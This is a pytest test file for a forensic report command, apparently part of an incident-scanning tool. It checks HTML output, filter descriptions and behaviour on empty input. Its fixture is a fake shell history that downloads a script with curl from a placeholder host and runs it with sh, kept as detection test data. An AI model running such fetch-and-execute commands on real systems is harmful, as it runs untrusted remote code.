"""`tidewaiter report`: the page appears only when it is complete, and says what was left out of it."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from tidewaiter.cli.commands.report import narrowed
from tidewaiter.cli.exit_codes import ExitCode
from tidewaiter.cli.main import run
from tidewaiter.pipeline.config import ScanOptions

HISTORY = "#1772366400\ncurl -o /tmp/tally.sh http://files.example.com/tally.sh\n#1772366460\nsh /tmp/tally.sh\n"


@pytest.fixture
def evidence(tmp_path: Path) -> Path:
    folder = tmp_path / "evidence"
    folder.mkdir()
    (folder / ".bash_history").write_text(HISTORY)
    return folder


def test_the_page_is_written_and_named(evidence: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "page.html"

    assert run(["report", str(evidence), "-o", str(target), "--jobs", "1"]) == ExitCode.OK
    page = target.read_text(encoding="utf-8")
    said = capsys.readouterr()
    assert page.startswith("<!doctype html>")
    assert page.rstrip().endswith("</html>")
    assert "http://files.example.com/tally.sh" in page
    assert said.out == ""
    assert f"Report: {target}" in said.err
    assert [path.name for path in tmp_path.iterdir() if path.is_file()] == ["page.html"]


def test_the_page_goes_to_standard_output_where_asked(evidence: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["report", str(evidence), "-o", "-", "--jobs", "1", "--min-severity", "critical"]) == ExitCode.OK
    said = capsys.readouterr()

    assert said.out.startswith("<!doctype html>")
    assert "Only critical severity and higher." in said.out
    assert "No transfer was found" in said.out
    assert "Report:" not in said.err


def test_nothing_readable_leaves_no_page(tmp_path: Path) -> None:
    (tmp_path / "empty.log").write_text("")

    assert run(["report", str(tmp_path / "empty.log"), "-o", str(tmp_path / "page.html")]) == ExitCode.NOTHING_READABLE
    assert not (tmp_path / "page.html").exists()


def test_what_is_left_out_is_said_in_words() -> None:
    assert narrowed(ScanOptions()) is None
    assert narrowed(
        ScanOptions(min_severity="low", hosts=("a", "b"), since=1_772_366_400_000_000, until=1_772_366_401_000_000)
    ) == ("low severity and higher, on a, b, since 2026-03-01T12:00:00Z, until 2026-03-01T12:00:01Z")


def test_help_loads_no_template_engine() -> None:
    probe = "import sys; from tidewaiter.cli.main import run; run(['report', '--help']); assert 'jinja2' not in sys.modules"

    subprocess.run([sys.executable, "-c", probe], check=True, capture_output=True, timeout=60)
